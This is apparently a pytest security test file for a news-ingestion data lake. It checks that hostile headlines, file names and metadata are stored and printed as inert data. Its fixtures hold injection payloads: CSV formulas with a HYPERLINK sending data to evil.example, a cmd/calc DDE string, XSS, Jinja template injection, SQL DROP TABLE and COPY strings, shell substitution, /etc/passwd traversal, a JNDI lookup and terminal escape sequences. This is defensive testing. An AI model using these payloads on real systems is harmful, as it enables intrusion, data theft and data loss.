"""What others wrote is data, wherever it comes out again: nothing runs it, renders it, obeys it or walks along it.

One landing zone full of hostile texts, names and sidecars, ingested once; then a test a sink.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import tomllib
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
from newslake import lake, landing, pipeline, printing, requests
from newslake.errors import RequestError
from newslake.landing import Unit
from newslake.work import Run

# Each is the headline of an article, and stands in its text.
HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"Hafen")',
    "formula_wide": "＝1+1 im Hafen",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": '<img src=x onerror=alert(1)><script>alert("Hafen")</script>',
    "markup": "</td></tr></table><iframe srcdoc='<b>Hafen</b>'></iframe>",
    "jinja": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "sql": "Hafen'; DROP TABLE articles; --",
    "sql_copy": "x') TO '/tmp/hafen.csv'; SELECT ('",
    "markdown": "[Hafen](javascript:alert(1)) ![x](https://evil.example/x.png) `rm -rf`",
    "rich": "[red on white]Hafen[/] [link=https://evil.example]hier[/link]",
    "shell": "$(touch /tmp/hafen) `id` && exit",
    "path": "../../../../etc/passwd",
    "format": "%s %n {0.__class__} ${jndi:ldap://evil.example/a}",
    "bidi": "Hafen \u202egnp.exe\u2069 offen",
    "c1": "Hafen \x9b31m\x9d0;Titel\x9c rot",  # what some terminals take for ESC [ and ESC ]
}
NAMES = [
    "-rf.txt",
    "=1+1.txt",
    "a\nnewslake: everything is well.txt",
    "a\x1b]0;title\x07.txt",
    "{{ 7 * 7 }}.txt",
    "publisher=evil.txt",
    "'; DROP TABLE articles; --.txt",
    "<script>alert(1)<\u2044script>.txt",
    "\u202etxt.exe.txt",
    "%2e%2e%2f.txt",
]
SIDECAR = {"url": "javascript:alert(1)", "published_at": "{{ 7 * 7 }}", "fetched_at": "=1+1"}
DAY = "2024-03-04"
Answers = Callable[..., tuple[int, str, str]]


@pytest.fixture(scope="module")
def zone(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "landing"
    day = folder / "hafenkurier" / DAY
    day.mkdir(parents=True)
    body = "Am Kai war es ruhig, und niemand hat etwas gemerkt. Die Fischer haben ihre Netze geflickt."
    for name, text in HOSTILE.items():
        (day / f"{name}.txt").write_text(f"{text}\n\n{body} {text} {body}\n", "utf-8")
        (day / f"{name}.meta.json").write_text(json.dumps(SIDECAR))
    for number, name in enumerate(NAMES):
        (day / name).write_text(f"Kutter {number} ist da\n\n{body} Es ist der Kutter {number}.\n", "utf-8")
    (day / "esc.txt").write_bytes(b"Kutter\n\n\x1b[2J\x1b]0;Titel\x07\n")
    for stranger in ("hafenkurier/=evil", "{{ 7 * 7 }}", "evil\nline", "publisher=evil"):
        (folder / stranger).mkdir()
    return folder


@pytest.fixture(scope="module")
def ingested(zone: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(lake, Data Docs) of the hostile zone."""
    root = tmp_path_factory.mktemp("lake")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NEWSLAKE_DATA_DOCS", str(root / "docs"))
        sums = pipeline.ingest(Run(zone, root / "lake", "hostile"))
    assert (sums["articles"], sums["quarantined"]) == (len(HOSTILE) + len(NAMES), 1)
    return root / "lake", root / "docs"


def steering(text: str) -> list[str]:
    """Characters that could steer a terminal or turn the reading direction."""
    return [character for character in text if not character.isprintable() and character != "\n"]


# What is asked of a run


@pytest.mark.parametrize(
    "value",
    ["../..", "/etc", "2024-03-04/../..", "2024-3-4", "20240304", "２０２４-03-04", "2024-03-04\n", "2024-02-30", "",
     " ", "{{ ds }}", 20240304, 1.5, True, ["2024-03-04"], {"from": "2024-03-04"}, b"2024-03-04"],
)  # fmt: skip
def test_a_parameter_that_is_no_day_fails_before_anything_is_read(value: Any) -> None:
    with pytest.raises(RequestError):
        requests.days({"from_date": value, "to_date": DAY}, None)
    with pytest.raises(RequestError):
        requests.days({"from_date": DAY, "to_date": value}, None)


@pytest.mark.parametrize(
    "name", ["..", "../etc", "a/b", "a\\b", "", ".", "a b", "A", "_x", "x" * 64, "a\n", "a=b", "{{a}}", "ä"]
)
def test_a_publisher_that_is_no_slug_fails_before_anything_is_read(name: str, zone: Path, tmp_path: Path) -> None:
    with pytest.raises(RequestError, match="is no publisher's name"):
        pipeline.load(Run(zone, tmp_path / "lake", "x"), (name,))
    assert not (tmp_path / "lake").exists()


def test_a_run_works_where_the_environment_says_and_nowhere_else(monkeypatch: Any, tmp_path: Path, zone: Path) -> None:
    monkeypatch.setenv("NEWSLAKE_LAKE", str(tmp_path))
    monkeypatch.setenv("NEWSLAKE_LANDING", str(zone))
    for run_id in ("../../../etc", "/etc", "manual__{{ 7 * 7 }}", "a\0b", "x" * 10_000):
        asked = requests.run("ingest_x", run_id)
        assert (asked.landing, asked.lake) == (zone, tmp_path)
        assert re.fullmatch(r"ingest_x-[0-9a-f]{16}", asked.key)


# Where it is stored


def test_the_text_is_in_the_lake_verbatim(ingested: tuple[Path, Path]) -> None:
    with lake.connect(ingested[0]) as connection:
        rows = connection.sql("SELECT source_file, headline, body FROM articles").fetchall()
    found = {name.removesuffix(".txt"): (headline, body) for name, headline, body in rows}
    for name, text in HOSTILE.items():
        assert text in found[name][1]
        assert found[name][0] == (text if name != "bidi" else "Hafen gnp.exe offen")


def test_no_text_and_no_name_is_a_path(ingested: tuple[Path, Path]) -> None:
    files = {path.relative_to(ingested[0]).as_posix() for path in ingested[0].rglob("*") if path.is_file()}
    unit = f"publisher=hafenkurier/date={DAY}"
    visible = {name for name in files if not name.startswith(".newslake/")}
    assert visible == {
        f"articles/{unit}/articles.parquet", f"quarantine/{unit}/quarantine.parquet", f"ledger/{unit}/commit.json",
    }  # fmt: skip
    assert all(re.fullmatch(r"[\w./=-]+", name) for name in files)


def test_folders_that_are_no_publishers_are_none(zone: Path) -> None:
    assert landing.units(zone) == [Unit("hafenkurier", date.fromisoformat(DAY))]


def test_a_sidecar_says_nothing_that_is_not_well_formed(ingested: tuple[Path, Path]) -> None:
    with lake.connect(ingested[0]) as connection:
        said = connection.sql("SELECT DISTINCT url, published_at, fetched_at FROM articles").fetchall()
    assert said == [(None, None, None)]


# SQL


@pytest.mark.parametrize("form", ["table", "csv", "json"])
def test_sql_in_a_text_is_not_run(ingested: tuple[Path, Path], run: Answers, form: str) -> None:
    code, _, errors = run("query", "--lake", ingested[0], "--format", form, "SELECT * FROM articles")
    assert (code, errors) == (0, "")
    code, out, _ = run("query", "--lake", ingested[0], "--format", form, "SELECT count(*) AS n FROM articles")
    assert code == 0 and str(len(HOSTILE) + len(NAMES)) in out
    assert not Path("/tmp/hafen.csv").exists()


def test_a_name_of_the_program_is_no_table(ingested: tuple[Path, Path], run: Answers) -> None:
    assert run("query", "--lake", ingested[0], "SELECT * FROM connection")[0] == 2


# A profile that is proposed for texts


def test_a_proposed_profile_quotes_the_texts_as_data(zone: Path, run: Answers, tmp_path: Path) -> None:
    day = tmp_path / "texts"
    day.mkdir()
    evil = 'In eigener Sache: "]\ntitle = "evil" \\u0000 \x9b31m \u202e {{ 7 * 7 }} [[layouts]] \'\'\' """'
    for number in range(12):
        (day / f"{number}.txt").write_text(f"Kutter {number}\n\nAm Kai {number} ist es ruhig.\n\n{evil}\n", "utf-8")
    code, proposed, _ = run("publishers", "suggest", day)
    assert code == 0 and not steering(proposed)
    assert tomllib.loads(proposed)["title"] != "evil"


# CSV and JSON


def test_no_cell_of_a_csv_is_a_formula(ingested: tuple[Path, Path], run: Answers) -> None:
    sql = "SELECT headline, source_file, '\n=1' AS a, '\t=1' AS b, -1 AS number FROM articles"
    _, out, _ = run("query", "--lake", ingested[0], "--format", "csv", sql)
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert len(rows) == len(HOSTILE) + len(NAMES)
    for *texts, number in rows:
        assert all(text[0] not in "=+-@\t\r\n＝＋－＠" for text in texts) and number == "-1"
    assert "'" + HOSTILE["formula"] in {row[0] for row in rows}


def test_no_heading_of_a_csv_is_a_formula(ingested: tuple[Path, Path], run: Answers) -> None:
    sql = "PIVOT articles ON headline USING count(*) GROUP BY profile"
    _, out, _ = run("query", "--lake", ingested[0], "--format", "csv", sql)
    names = next(csv.reader(io.StringIO(out)))
    assert len(names) == 1 + len(HOSTILE) + len(NAMES)
    assert all(name[0] not in "=+-@＝＋－＠" for name in names)


def test_json_is_one_line_an_article_and_says_the_same(ingested: tuple[Path, Path], run: Answers) -> None:
    _, out, _ = run("query", "--lake", ingested[0], "--format", "json", "SELECT headline, text FROM articles")
    assert not steering(out)
    rows = [json.loads(line) for line in out.splitlines()]
    assert set(HOSTILE.values()) - {HOSTILE["bidi"]} <= {row["headline"] for row in rows}
    assert any(HOSTILE["bidi"] in row["text"] for row in rows)
    assert json.loads(printing.json_line(["a"], ("\U000e0001\x9b\ud800",))) == {"a": "\U000e0001\x9b\ud800"}


# Terminals and logs


def test_nothing_steers_a_terminal(ingested: tuple[Path, Path], zone: Path, run: Answers) -> None:
    files = sorted((zone / "hafenkurier" / DAY).glob("*.txt"))
    shown = [
        run("inspect", "--publisher", "hafenkurier", *files),
        run("inspect", "--json", "--publisher", "hafenkurier", *files),
        run("query", "--lake", ingested[0], "SELECT headline, source_file, text FROM articles"),
        run("status", "--lake", ingested[0], "--landing", zone, "--check"),
        run("status", "--lake", ingested[0], "--landing", zone),
    ]
    for code, out, errors in shown:
        assert code in (0, 1) and not steering(out + errors)
    assert "[red on white]Hafen[/]" in shown[0][1] and "\\x9b31m" in shown[0][1]


def test_a_csv_steers_no_terminal_and_is_verbatim_in_a_file(ingested: tuple[Path, Path], run: Answers) -> None:
    asked = ["query", "--lake", str(ingested[0]), "--format", "csv", "SELECT headline FROM articles"]
    assert HOSTILE["c1"] in run(*asked)[1]
    reading, writing = pty.openpty()
    command = [sys.executable, "-m", "newslake.cli", *asked]
    process = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, check=False)
    os.close(writing)
    shown = os.read(reading, 65_536).decode().replace("\r\n", "\n")
    os.close(reading)
    assert process.returncode == 0 and "\\x9b31m" in shown and not steering(shown)


def test_the_report_of_the_sample_run_steers_no_terminal(
    ingested: tuple[Path, Path], monkeypatch: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    from runtime import report

    monkeypatch.setattr(report, "environment", lambda: {"NEWSLAKE_LAKE": str(ingested[0])})
    monkeypatch.setenv("NEWSLAKE_LAKE", "")
    evil = {"What is there?": "SELECT headline FROM articles WHERE source_file = 'c1.txt'"}
    monkeypatch.setattr(report, "QUERIES", evil)
    assert report.main() == 0
    shown = capsys.readouterr().out
    assert "\\x9b31m" in shown and not steering(shown)


def test_a_run_says_only_its_own_lines(zone: Path, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "newslake.cli", "ingest", "--landing", zone, "--lake", tmp_path / "lake"]
    environment = os.environ | {"NEWSLAKE_DATA_DOCS": str(tmp_path / "docs")}
    process = subprocess.run(command, capture_output=True, text=True, check=False, env=environment)
    assert process.returncode == 0
    assert [line.split()[0] for line in process.stdout.splitlines()] == ["articles", "quarantine", "ledger", "41"]
    assert process.stderr == ""


def test_a_finding_is_one_line_whatever_the_file_is_called(
    ingested: tuple[Path, Path], zone: Path, tmp_path: Path, run: Answers
) -> None:
    day = tmp_path / "landing" / "hafenkurier" / DAY
    day.mkdir(parents=True)
    for name in NAMES:
        (day / name).write_text("Kutter\n\nEin anderer Kutter.")
    code, out, _ = run("status", "--lake", ingested[0], "--landing", tmp_path / "landing", "--check")
    findings = out.splitlines()
    assert code == 1 and "newslake: everything is well.txt" not in findings
    assert not [line for line in findings if line.startswith("newslake")]


def test_an_error_is_one_line(run: Answers, tmp_path: Path, ingested: tuple[Path, Path]) -> None:
    forged = "x\nthe lake is whole"
    for arguments in (
        ("status", "--lake", tmp_path / forged, "--landing", tmp_path / forged),
        ("ingest", "--landing", tmp_path / forged, "--lake", tmp_path),
        ("ingest", "--landing", tmp_path, "--lake", tmp_path, "--publisher", forged),
        ("inspect", "--publisher", forged, "x"),
        ("query", "--lake", ingested[0], f"SELECT * FROM '{forged}'"),
    ):
        code, out, errors = run(*arguments)
        assert code == 2 and errors.count("\n") == 1
        assert "the lake is whole" not in (out + errors).splitlines()


# Airflow: XCom, labels, pages


def test_what_the_tasks_hand_over_holds_no_text_and_no_name(zone: Path, tmp_path: Path) -> None:
    """XComs, labels of mapped tasks and the asset's event are made of these alone."""
    work = Run(zone, tmp_path / "lake", "x")
    shards = pipeline.load(work)
    handed = [*shards, *(pipeline.split(work, shard["shard"]) for shard in shards)]
    for values in handed:
        for name, value in values.items():
            assert re.fullmatch(r"[a-z_]+", name)
            assert isinstance(value, int) or value == [DAY], (name, value)
    work.end()


def test_the_reports_and_the_commit_record_quote_no_text_and_no_name(ingested: tuple[Path, Path]) -> None:
    """The page Data Docs and the sums on the page Lake are made of these alone. Other pages show texts, escaped:
    tests/test_plugin.py."""
    pages = [path for path in ingested[1].rglob("*") if path.suffix in (".html", ".json")]
    record = next((ingested[0] / "ledger").rglob("commit.json"))
    assert len(pages) >= 4
    for path in [*pages, record]:
        written = path.read_text("utf-8")
        for needle in ("evil", "Hafen ", "alert(1", "7 * 7", "DROP TABLE", "everything is well"):
            assert needle not in written, (path, needle)


def test_duckdb_reads_the_lake_of_the_readme_as_data(ingested: tuple[Path, Path]) -> None:
    pattern = f"{ingested[0]}/articles/*/*/articles.parquet"
    sql = "SELECT count(DISTINCT headline) FROM read_parquet(?, union_by_name = true, hive_types_autocast = false)"
    assert duckdb.execute(sql, [pattern]).fetchall() == [(len(HOSTILE) + len(NAMES),)]
